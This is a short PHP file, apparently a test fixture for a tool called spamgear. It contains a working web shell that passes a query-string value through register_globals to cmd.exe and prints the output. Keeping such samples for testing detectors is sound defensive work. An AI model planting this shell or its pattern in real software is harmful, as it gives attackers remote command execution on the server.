<?php
// Written for spamgear's tests: a register_globals-era shell; $cmd comes from
// the query string and is never set here, then goes to cmd.exe's stdin with
// a line end appended.
$p = proc_open($_SERVER['COMSPEC'], array(0 => array('pipe', 'r'), 1 => array('pipe', 'w')), $pipes);
fwrite($pipes[0], $cmd . "\r\n");
fclose($pipes[0]);
echo stream_get_contents($pipes[1]);
